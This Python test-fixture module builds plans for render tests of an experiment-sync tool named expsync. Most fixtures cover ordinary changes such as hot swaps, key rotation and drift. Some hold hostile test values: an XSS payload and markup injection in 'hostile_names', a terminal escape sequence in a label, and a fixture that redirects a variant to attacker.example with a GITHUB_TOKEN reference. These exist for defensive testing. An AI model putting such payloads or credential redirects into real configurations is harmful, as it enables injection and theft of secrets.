"""Hand-built plans for render tests (no database), one per situation a reviewer meets."""

from __future__ import annotations

import dataclasses

from expsync.model import KeyChange, Status
from expsync.plan import Plan
from tests.plan.builders import UP, actual, actual_of, desired, dexp, dvar, run

D, A, P, C = Status.DRAFT, Status.ACTIVE, Status.PAUSED, Status.COMPLETED
FOO = "partner/preview-foo"


def _up(internal_id: str, **extra: object) -> dict:
    return {"internal_id": internal_id, "base_url": "https://api.partner.example/v1", **extra}


def foo(status: Status = A, *, rc2: str = "foo-rc2", rc1_weight: int = 1, archived: bool = False, key: str = "foo-rc-bakeoff",
        pid: str = FOO, name: str = "Foo RC1 vs RC2"):
    return dexp(key, status=status, archived=archived, pid=pid, name=name, variants=(
        dvar("rc1", rc1_weight, upstream=_up("foo-rc1"), ref="env:FOO_RC1_KEY"),
        dvar("rc2", upstream=_up(rc2), ref="env:FOO_RC2_KEY"),
    ))


def applied(d, **changes):
    """The database as expsync left it after applying ``d`` (then changed by ``changes``)."""
    return actual(actual_of(d, **changes), managed=(d,))


def create_active() -> Plan:
    return run(desired(foo(A)), actual())


def hot_swap_on_active() -> Plan:
    old = foo(A)
    new = foo(A, rc2="foo-rc3")
    return run(desired(new), applied(old))


def key_rotation(key_change: KeyChange = KeyChange.ROTATED, **opts: object) -> Plan:
    d = foo(A)
    kc = {(d.key, "rc1"): key_change, (d.key, "rc2"): KeyChange.UNCHANGED}
    return run(desired(d), applied(d), key_changes=kc, **opts)


def transitions() -> Plan:
    """Pause one, complete+archive another, activate a draft after re-weighting it."""
    pause, done, start = foo(A, key="bar", pid="partner/bar"), foo(P, key="baz", pid="partner/baz"), foo(D)
    db = actual(actual_of(pause), actual_of(done), actual_of(start), managed=(pause, done, start))
    return run(desired(foo(P, key="bar", pid="partner/bar"),
                       foo(C, key="baz", pid="partner/baz", archived=True),
                       foo(A, rc1_weight=3)), db)


def refused() -> Plan:
    """A weight change on an active experiment and a completed experiment brought back."""
    live, done = foo(A), foo(C, key="old", pid="partner/old")
    db = actual(actual_of(live), actual_of(done), managed=(live, done))
    return run(desired(foo(A, rc1_weight=3, name="Foo, re-weighted"), foo(A, key="old", pid="partner/old")), db)


def drift() -> Plan:
    """Renamed in the admin UI (reverted), and another paused there (protective, refused)."""
    renamed, paused = foo(A), foo(A, key="qux", pid="partner/qux")
    db = actual(actual_of(renamed, name="Renamed in the UI"), actual_of(paused, status=P), managed=(renamed, paused))
    return run(desired(renamed, paused), db)


def delete_and_release() -> Plan:
    """YAML removed: a draft is deleted, a completed+archived experiment is released."""
    draft, finished = foo(D, key="scratch", pid="partner/scratch"), foo(C, archived=True)
    return run(desired(), actual(actual_of(draft), actual_of(finished), managed=(draft, finished)), allow_empty=True)


def no_changes() -> Plan:
    d = foo(A)
    return run(desired(d), applied(d))


def relabel_in_draft() -> Plan:
    """Draft edits: relabel (key kept), add a variant, remove one, rename, change the public id."""
    old = dexp("edit", status=D, pid="partner/old-id", variants=(dvar("a"), dvar("b"), dvar("gone")))
    new = dexp("edit", status=D, pid="partner/new-id", name="Renamed", description="now described",
               variants=(dvar("A (renamed)", key="a"), dvar("b", 2), dvar("c", upstream={**UP, "extra_body": {"t": 0.2}})))
    return run(desired(new), applied(old))


def adopted() -> Plan:
    """An experiment created in the admin UI, adopted by pinning its id (no row changes)."""
    d = foo(A)
    return run(desired(d), actual(actual_of(d)))


def many(n: int) -> Plan:
    """``n`` new active experiments (a large first import)."""
    exps = [dataclasses.replace(foo(A, key=f"exp-{i:05d}", pid=f"partner/model-{i:05d}"), name=f"Experiment number {i}")
            for i in range(n)]
    return run(desired(*exps), actual())


ALL = {
    "create_active": create_active,
    "hot_swap_on_active": hot_swap_on_active,
    "key_rotation": key_rotation,
    "transitions": transitions,
    "refused": refused,
    "drift": drift,
    "delete_and_release": delete_and_release,
    "no_changes": no_changes,
    "relabel_in_draft": relabel_in_draft,
    "adopted": adopted,
}


def no_secrets() -> Plan:
    """``plan --no-secrets``: keys not compared; a hot swap still shows, the plan is not applyable."""
    old = foo(A)
    return run(desired(foo(A, rc2="foo-rc3")), applied(old), key_changes={}, compare_secrets=False)


ALL["no_secrets"] = no_secrets


def label_with_escape() -> Plan:
    """A label carrying a terminal escape sequence (draft: labels may change)."""
    d = dexp("esc", status=D)
    new = dexp("esc", status=D, variants=(dvar("a\x1b[2J", key="a"), dvar("b")))
    return run(desired(new), applied(d))


def hot_swaps(n: int) -> Plan:
    """``n`` active experiments, each swapping rc2's checkpoint and rotating its key."""
    olds = [foo(A, key=f"swap-{i:04d}", pid=f"partner/swap-{i:04d}") for i in range(n)]
    news = [foo(A, key=f"swap-{i:04d}", pid=f"partner/swap-{i:04d}", rc2=f"foo-rc3-{i}") for i in range(n)]
    kc = {(d.key, v): KeyChange.ROTATED if v == "rc2" else KeyChange.UNCHANGED for d in news for v in ("rc1", "rc2")}
    return run(desired(*news), actual(*(actual_of(d) for d in olds), managed=tuple(olds)), key_changes=kc)


def many_refused(n: int) -> Plan:
    """``n`` active experiments whose weights were changed in git: ``n`` errors."""
    olds = [foo(A, key=f"frozen-{i:04d}", pid=f"partner/frozen-{i:04d}") for i in range(n)]
    news = [foo(A, key=f"frozen-{i:04d}", pid=f"partner/frozen-{i:04d}", rc1_weight=2, name=f"renamed {i}")
            for i in range(n)]
    return run(desired(*news), actual(*(actual_of(d) for d in olds), managed=tuple(olds)))


def hostile_names() -> Plan:
    """Names and labels full of markup: they must not break tables or inject HTML/mentions."""
    old = dexp("hostile", status=D, variants=(dvar("a"), dvar("b")))
    new = dexp("hostile", status=D, name="a|b <img src=x onerror=alert(1)> @org/team *bold* ``tick`` </details>",
               variants=(dvar("x|y <b>", key="a"), dvar("b")))
    return run(desired(new), applied(old))


def key_exfiltration() -> Plan:
    """A PR points an active variant at another host and swaps its key reference."""
    old = foo(A)
    new = dexp(old.key, status=A, pid=FOO, name=old.name, variants=(
        dvar("rc1", upstream={"internal_id": "foo-rc1", "base_url": "https://attacker.example:8443/v1"},
             ref="env:GITHUB_TOKEN"),
        dvar("rc2", upstream=_up("foo-rc2"), ref="env:FOO_RC3_KEY"),
    ))
    kc = {(old.key, "rc1"): KeyChange.ROTATED, (old.key, "rc2"): KeyChange.ROTATED}
    return run(desired(new), applied(old), key_changes=kc)


ALL["key_exfiltration"] = key_exfiltration

#: values of the experiment in :func:`unmanaged_pinned` that an untrusted plan must not show
UNMANAGED_VALUES = ("Partner launch (embargoed)", "not public yet", "secret-rc", "partner-internal-model",
                    "private.partner.example")


def unmanaged_pinned() -> Plan:
    """``plan --no-secrets`` of a PR pinning the id of a draft expsync does not manage."""
    private = {"internal_id": "partner-internal-model", "base_url": "https://private.partner.example/v1"}
    theirs = dexp("theirs", status=D, pid="partner/theirs", name="Partner launch (embargoed)",
                  description="not public yet", variants=(dvar("secret-rc", 7, upstream=private),
                                                          dvar("b", 3, upstream=private)))
    pr = dexp("pr", status=D, pid="partner/theirs", id=theirs.resolved_id, name="PR name",
              variants=(dvar("mine"), dvar("b", 5)))
    return run(desired(pr), actual(actual_of(theirs)), key_changes={}, compare_secrets=False, redact_unmanaged=True)


ALL["unmanaged_pinned"] = unmanaged_pinned


def lopsided() -> Plan:
    """A new active experiment weighted 9999:1: 99.99% and 0.01% of the traffic."""
    return run(desired(foo(A, rc1_weight=9999)), actual())
